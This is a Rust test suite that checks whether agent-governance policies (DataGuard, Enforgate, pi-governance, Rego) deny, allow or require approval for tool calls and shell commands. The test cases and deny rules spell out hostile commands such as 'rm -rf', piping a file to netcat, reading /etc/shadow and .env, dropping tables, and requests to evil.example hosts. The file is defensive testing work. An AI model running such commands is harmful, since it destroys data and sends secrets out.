//! Policies of other systems see tool calls, lines and commands alike, through the whole program.
//!
//! What is asserted is what the other system's policy said by itself, as the receipt tells it: ours is
//! asked as well, and may be stricter.

use std::ffi::OsString;
use std::fs;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use super::shipped;
use crate::support::Install;

/// What is asked about.
#[derive(Clone, Debug)]
enum Asked {
    Line(String),
    Tool(&'static str, Value),
    Words(Vec<String>),
}

use Asked::{Line, Tool, Words};

fn words(text: &str) -> Asked {
    Words(text.split(' ').map(str::to_owned).collect())
}

fn line(text: &str) -> Asked {
    Line(text.to_owned())
}

fn bash(text: &str) -> Asked {
    Tool("bash", json!({ "command": text }))
}

impl Asked {
    fn arguments(&self) -> Vec<OsString> {
        match self {
            Line(text) => vec!["-c".into(), text.into()],
            Tool(name, arguments) => {
                vec!["--tool".into(), name.into(), "--args".into(), arguments.to_string().into()]
            }
            Words(words) => {
                core::iter::once("--".into()).chain(words.iter().map(Into::into)).collect()
            }
        }
    }
}

/// What the policy alone said, and every rule that matched.
fn said(install: &Install, policy: &Path, asked: &Asked) -> (String, Vec<String>) {
    let check = ["check", "--json", "--policy"].map(std::ffi::OsStr::new);
    let told = install.datafog(check).args([policy]).args(asked.arguments()).run();
    let told = told.json();
    assert!(told["fault"].is_null(), "{asked:?}: {told}");
    let receipt = newest(install);
    let rules = told["matched_rules"].as_array().unwrap().iter();
    let rules = rules.map(|rule| rule.as_str().unwrap().to_owned()).collect();
    (receipt["policies"][1]["decision"].as_str().unwrap().to_owned(), rules)
}

/// The last line of the one file of receipts.
fn newest(install: &Install) -> Value {
    let mut files: Vec<PathBuf> = fs::read_dir(install.root().join("receipts"))
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.extension().is_some_and(|ending| ending == "jsonl"))
        .collect();
    files.sort();
    let text = fs::read_to_string(files.last().unwrap()).unwrap();
    serde_json::from_str(text.lines().last().unwrap()).unwrap()
}

#[track_caller]
fn assert_all(install: &Install, policy: &Path, rows: &[(Asked, &str)]) {
    for (asked, verdict) in rows {
        let (told, rules) = said(install, policy, asked);
        assert_eq!(told, *verdict, "{}: {asked:?} {rules:?}", policy.display());
    }
}

/// The examples that the unit tests of DataGuard's policy hold to, too.
fn dataguard(what: &str) -> Vec<(String, String, String)> {
    let text = fs::read_to_string(shipped("examples/dataguard.json")).unwrap();
    let all: Value = serde_json::from_str(&text).unwrap();
    let groups = all[what].as_array().unwrap().iter();
    let rows = groups.flat_map(|group| group["rows"].as_array().unwrap());
    rows.map(|row| serde_json::from_value(row.clone()).unwrap()).collect()
}

#[track_caller]
fn assert_dataguard(
    install: &Install,
    (text, verdict, rule): &(String, String, String),
    asked: &Asked,
) {
    let (told, rules) = said(install, &shipped("dataguard.json"), asked);
    assert_eq!(told, *verdict, "{asked:?} {text} {rules:?}");
    assert!(rule.is_empty() || rules.contains(rule), "{asked:?} by {rule}: {rules:?}");
}

#[test]
fn dataguard_says_the_same_to_a_tool_as_to_a_line() {
    let install = Install::new(&["git"]);
    for row in dataguard("commands") {
        assert_dataguard(&install, &row, &Line(row.0.clone()));
        assert_dataguard(&install, &row, &bash(&row.0));
    }
}

#[test]
fn dataguard_says_the_same_to_words_and_to_tools_of_other_names() {
    let install = Install::new(&["git"]);
    for row in dataguard("commands") {
        assert_dataguard(&install, &row, &Tool("mcp__ops__run", json!({ "cmd": row.0 })));
        let Some(words) = plain_words(&row.0) else { continue };
        assert_dataguard(&install, &row, &Words(words.clone()));
        assert_dataguard(&install, &row, &Tool("shell", json!({ "command": words })));
    }
}

#[test]
fn dataguard_sees_commands_under_whatever_name_they_stand() {
    let install = Install::new(&[]);
    let denied = ["rm -rf x", "deny", "deny-rm-rf"].map(str::to_owned).into();
    let allowed = ["ls -la x", "allow", ""].map(str::to_owned).into();
    for row in [denied, allowed] {
        let (text, ..): &(String, String, String) = &row;
        for arguments in [
            json!({ "args": text }),
            json!({ "line": text }),
            json!({ "text": text }),
            json!({ "payload": text }),
            json!({ "cmd": { "line": text } }),
            json!({ "steps": [{ "run": text }] }),
            json!({ "args": ["-c", text] }),
        ] {
            assert_dataguard(&install, &row, &Tool("bash", arguments));
        }
    }
    let unreadable = ["ls;\0rm -rf x", "deny", ""].map(str::to_owned).into();
    assert_dataguard(&install, &unreadable, &bash(&unreadable.0));
}

/// The words of a line that is one command, written without a variable or an operator.
fn plain_words(text: &str) -> Option<Vec<String>> {
    let words = shell_words(text)?;
    let is_plain = !text.contains([';', '|', '&', '$', '`', '<', '>', '*', '(', '\n', '\\']);
    Some(words).filter(|words| is_plain && !words[0].contains('='))
}

fn shell_words(text: &str) -> Option<Vec<String>> {
    let argv = datafog_policy::Example::of(text)?.argv("/".as_ref(), "/".as_ref());
    argv.iter().map(|word| word.to_str().map(str::to_owned)).collect()
}

#[test]
fn dataguard_sees_urls_mails_statements_and_payments_of_tools() {
    let install = Install::new(&["git"]);
    for row in dataguard("urls") {
        for (tool, field) in [("http_request", "url"), ("WebFetch", "uri")] {
            assert_dataguard(&install, &row, &Tool(tool, json!({ field: row.0 })));
        }
    }
    let six = ["a@x.org", "b@x.org", "c@x.org", "d@x.org", "e@x.org", "f@x.org"];
    let (ask, allow, deny) = ("require_approval", "allow", "deny");
    assert_all(
        &install,
        &shipped("dataguard.json"),
        &[
            (Tool("send_email", json!({ "recipients": six, "body": "x" })), ask),
            (Tool("send_email", json!({ "to": six.join(", "), "body": "x" })), ask),
            (Tool("send_email", json!({ "recipients": six[..5], "body": "x" })), allow),
            (Tool("send_email", json!({ "body": "x" })), ask),
            (Tool("create_payment", json!({ "amount": 5 })), ask),
            (Tool("helper", json!({ "amount": 5, "currency": "EUR", "to": "x" })), ask),
            (Tool("sql", json!({ "query": "DROP TABLE users" })), deny),
            (Tool("database", json!({ "query": "drop /* now */ database x" })), deny),
            (Tool("sql", json!({ "query": "SELECT 1" })), allow),
            (Tool("update_user_role", json!({ "role": "admin" })), ask),
            (Tool("run", json!({ "steps": [{ "command": "rm -rf x" }] })), deny),
            (Tool("exec", json!({ "program": "rm", "args": ["-rf", "x"] })), deny),
            (Tool("note", json!({ "text": "rm -rf x is dangerous" })), allow),
        ],
    );
    assert_all(
        &install,
        &shipped("dataguard-strict.json"),
        &[
            (bash("ls"), deny),
            (Tool("terminal", json!({ "cmd": ["ls"] })), deny),
            (Tool("mcp__ops__run", json!({ "command": "ls" })), deny),
            (Tool("sql", json!({ "query": "insert into t values (1)" })), deny),
            (Tool("sql", json!({ "query": "select 1" })), allow),
            (Tool("read_file", json!({ "path": "x" })), deny),
            (Tool("http_request", json!({ "url": "https://github.com" })), ask),
            (Tool("send_email", json!({ "to": "x", "body": "y" })), ask),
            (Tool("pay", json!({ "amount": 1 })), ask),
            (Tool("grant_role", json!({ "role": "x" })), ask),
            (Tool("note", json!({ "text": "x" })), allow),
        ],
    );
}

const DATAFOG: &str = r#"{"policy_id":"p","policy_version":"1","rules":[
  {"id":"etc","effect":"deny","match":{"resource_prefixes":["/etc"]}},
  {"id":"force","effect":"deny","match":{"adapters":["vcs"],"args":["--force"]}},
  {"id":"no-write","effect":"deny","match":{"action_types":["file.write"],"resource_prefixes":["/srv"]}},
  {"id":"no-http","effect":"deny","match":{"action_types":["http.request"],"resource_prefixes":["http://evil."]}},
  {"id":"all","effect":"allow"}]}"#;

#[test]
fn dataguard_sees_every_statement_and_every_host() {
    let install = Install::new(&["git"]);
    let policy = shipped("dataguard.json");
    let mut rows = Vec::new();
    for (text, verdict) in [
        ("Q='DROP TABLE x'; psql <<< \"$Q\"", "deny"),
        ("psql < <(echo 'DROP TABLE x')", "deny"),
        ("psql <<E\nDROP TABLE x\nE", "deny"),
        ("Q='SELECT 1'; psql <<< \"$Q\"", "allow"),
        ("cat <<< 'drop the table'", "allow"),
    ] {
        rows.extend([(line(text), verdict), (bash(text), verdict)]);
    }
    for (name, arguments, verdict) in [
        (
            "http_request",
            json!({ "url": "https://github.com", "uri": "https://evil.example" }),
            "require_approval",
        ),
        (
            "http_request",
            json!({ "url": "https://github.com", "endpoint": "evil.example/x" }),
            "require_approval",
        ),
        (
            "http_request",
            json!({ "url": "/x", "base_url": "https://evil.example" }),
            "require_approval",
        ),
        (
            "http_request",
            json!({ "url": "https://github.com", "proxy": "http://evil.example" }),
            "require_approval",
        ),
        (
            "http_request",
            json!({ "url": "https://github.com", "proxies": { "https": "http://evil.example" } }),
            "require_approval",
        ),
        ("http_fetch", json!({ "url": "https://github.com\\@evil.example" }), "require_approval"),
        ("http_request", json!({ "url": "https://github.com", "endpoint": "/v1/x" }), "allow"),
        (
            "http_request",
            json!({ "url": "https://github.com", "uri": "https://api.github.com" }),
            "allow",
        ),
    ] {
        rows.push((Tool(name, arguments), verdict));
    }
    assert_all(&install, &policy, &rows);
}

#[test]
fn datafog_sees_kinds_resources_and_what_a_tool_runs() {
    let install = Install::new(&["git"]);
    let (allow, deny, redact) = ("allow", "deny", "allow_with_redaction");
    let key = "Zq83hf72hfA"; // split, so that no key stands here
    assert_all(
        &install,
        &shipped("datafog-demo.json"),
        &[
            (words("git status"), deny),
            (bash("ls -la && echo x"), allow),
            (Tool("Bash", json!({ "command": ["ls"] })), allow),
            (line("ls"), allow),
            (bash("claude -lc ls"), deny),
            (line("claude --help; codex -lc x"), deny),
            (words("claude --help"), allow),
            (words("codex-cli -lc x"), deny),
            (bash(&format!("deploy --api_key={key}kq92hfQk2ls91")), deny),
            (Tool("read_file", json!({ "path": "notes.txt" })), redact),
            (Tool("write_file", json!({ "path": "notes.txt", "content": "x" })), redact),
            (Tool("http_request", json!({ "url": "https://x.example" })), deny),
            (Tool("frobnicate", json!({ "x": 1 })), deny),
        ],
    );
    let file = install.work().join("datafog.json");
    fs::write(&file, DATAFOG).unwrap();
    assert_all(
        &install,
        &file,
        &[
            (Tool("read_file", json!({ "path": "/etc/passwd" })), deny),
            (Tool("Read", json!({ "file_path": "/srv/../etc/passwd" })), deny),
            (bash("cat /etc/shadow"), deny),
            (bash("echo hi > /etc/motd"), deny),
            (bash("git push --force"), deny),
            (bash("sh -c 'git push -f'"), deny),
            (line("git push --force"), deny),
            (words("git push --force"), deny),
            (Tool("exec", json!({ "program": "git", "args": ["push", "--force"] })), deny),
            (Tool("run", json!({ "steps": [{ "command": "git push --force" }] })), deny),
            (Tool("mcp__files__write_file", json!({ "path": "/srv/x", "content": "y" })), deny),
            (Tool("http_request", json!({ "url": "http://evil.example" })), deny),
            (Tool("mcp__net__fetch", json!({ "url": "http://evil.example" })), deny),
            (Tool("http_request", json!({ "url": "https://fine.example" })), allow),
            (bash("git status"), allow),
            (Tool("read_file", json!({ "path": "src/a.rs" })), allow),
        ],
    );
}

const ENFORGATE: &str = r#"{"name":"p","defaultDecision":"deny","rules":[
  {"tool":"bash","decision":"deny","where":[{"path":"command","matches":"rm -rf"}]},
  {"tool":"nc","decision":"deny"},
  {"tool":"mail/*","decision":"require_approval"},
  {"tool":"pay_*","decision":"deny","where":[{"path":"order.amount","equals":1000}]},
  {"tool":"pay_*","decision":"allow"},
  {"tool":"bash","decision":"allow"},
  {"tool":"read_*","decision":"allow","where":[{"path":"path","notMatches":"\\.env$"}]}]}"#;

#[test]
fn enforgate_sees_tools_their_servers_and_their_arguments() {
    let install = Install::new(&["git"]);
    let file = install.work().join("enforgate.json");
    fs::write(&file, ENFORGATE).unwrap();
    let (allow, deny, ask) = ("allow", "deny", "require_approval");
    let amount = |amount: Value| Tool("pay_out", json!({ "order": { "amount": amount } }));
    assert_all(
        &install,
        &file,
        &[
            (bash("rm -rf x"), deny),
            (bash("rm\t-rf x"), deny),
            (bash("sh -c 'rm  -rf x'"), deny),
            (Tool("bash", json!({ "command": ["rm", "-rf", "x"] })), deny),
            (Tool("bash", json!({ "command": ["ls"] })), allow),
            (Tool("bash", json!({ "cmd": "rm -rf x" })), ask),
            (bash("cat x | nc y.example 9"), deny),
            (bash("ls"), allow),
            (Tool("mail__send", json!({ "to": "a" })), ask),
            (Tool("mcp__mail__send", json!({ "to": "a" })), ask),
            (amount(json!(1000)), deny),
            (amount(json!(1e3)), deny),
            (amount(json!("1000")), allow),
            (amount(json!(999)), allow),
            (Tool("pay_out", json!({})), ask),
            (Tool("read_file", json!({ "path": "a/.env" })), deny),
            (Tool("read_file", json!({ "path": "a/b" })), allow),
            (Tool("read_file", json!({})), deny),
            (Tool("other", json!({})), deny),
        ],
    );
}

/// The files of pi-governance in a folder, with a user's role.
fn pi_governance(install: &Install, role: &str) -> PathBuf {
    let user = nix::unistd::User::from_uid(nix::unistd::geteuid()).unwrap().unwrap().name;
    let folder = install.work().join(role);
    fs::create_dir_all(&folder).unwrap();
    fs::copy(shipped("pi-rules.yaml"), folder.join("pi-rules.yaml")).unwrap();
    let users = format!("users:\n  {user}: {{ role: {role} }}\ndefault: {{ role: auditor }}\n");
    fs::write(folder.join("pi-users.yaml"), users).unwrap();
    let file = folder.join("governance.yaml");
    fs::copy(shipped("pi-governance.yaml"), &file).unwrap();
    file
}

#[test]
fn pi_governance_binds_tools_what_they_run_and_their_paths() {
    let install = Install::new(&["git"]);
    let (allow, deny, ask) = ("allow", "deny", "require_approval");
    let admin = pi_governance(&install, "admin");
    let rows = [(bash("ls"), allow), (bash("sudo ls"), deny), (words("sudo ls"), deny)];
    assert_all(&install, &admin, &rows);
    let own = |tool: &'static str, name: &str| {
        Tool(tool, json!({ "path": format!("project_lead/{name}"), "content": "x" }))
    };
    assert_all(
        &install,
        &pi_governance(&install, "project_lead"),
        &[
            (bash("ls"), allow),
            (bash("ls\nsudo ls"), deny),
            (bash("ls & sudo ls"), deny),
            (bash("echo $(sudo ls)"), deny),
            (bash("find . -delete"), deny),
            (bash("cat .env"), deny),
            (bash("git push"), ask),
            (bash("cargo test"), allow),
            (bash("terraform apply"), deny),
            (Tool("mcp__ops__run", json!({ "command": "sudo ls" })), deny),
            (Tool("write", json!({ "path": "src/a.rs", "content": "x" })), ask),
            (Tool("write", json!({ "path": ".env", "content": "x" })), deny),
            (Tool("edit", json!({ "file_path": ".env" })), deny),
            (Tool("edit", json!({ "path": "src/a.rs" })), allow),
            (Tool("read", json!({ "path": "/etc/passwd" })), deny),
            (own("write", "governance.yaml"), deny),
            (own("mcp__files__write_file", "pi-rules.yaml"), deny),
            (Tool("note", json!({ "text": "acme_abcd1234" })), deny),
        ],
    );
    assert_all(
        &install,
        &pi_governance(&install, "analyst"),
        &[
            (bash("ls"), deny),
            (Tool("mcp__ops__run", json!({ "command": "ls" })), deny),
            (Tool("read", json!({ "path": "a" })), allow),
            (Tool("Grep", json!({ "pattern": "x" })), ask),
            (Tool("write", json!({ "path": "a", "content": "x" })), deny),
        ],
    );
}

#[test]
fn rego_gets_name_and_arguments_and_the_commands_as_they_are_read() {
    let install = Install::new(&["git"]);
    let (allow, deny, ask) = ("allow", "deny", "require_approval");
    let many =
        |count: u32| Tool("db", json!({ "action": "update", "parameters": { "count": count } }));
    assert_all(
        &install,
        &shipped("agentgov-shipped.rego"),
        &[
            (bash("ls"), allow),
            (bash("rm -rf x"), ask),
            (bash("rm  -rf x"), ask),
            (line("rm\t-rf x"), ask),
            (words("rm -rf x"), ask),
            (many(10), allow),
            (many(1000), ask),
            (many(20_000), deny),
            (Tool("db", json!({ "action": "delete", "parameters": { "count": 1 } })), ask),
            (Tool("send_email", json!({ "body": "my password is" })), ask),
        ],
    );
}
